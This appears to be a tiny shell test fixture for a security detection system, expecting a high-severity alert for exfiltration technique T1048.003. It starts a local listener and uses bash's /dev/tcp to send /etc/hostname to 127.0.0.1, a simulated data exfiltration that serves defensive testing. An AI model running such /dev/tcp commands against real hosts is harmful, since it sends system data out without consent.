# expects: high T1048.003
. "$STAGE/act.sh"
STAGE_TALK='' listen
bash -c "cat /etc/hostname > /dev/tcp/127.0.0.1/$port"
wait $listener
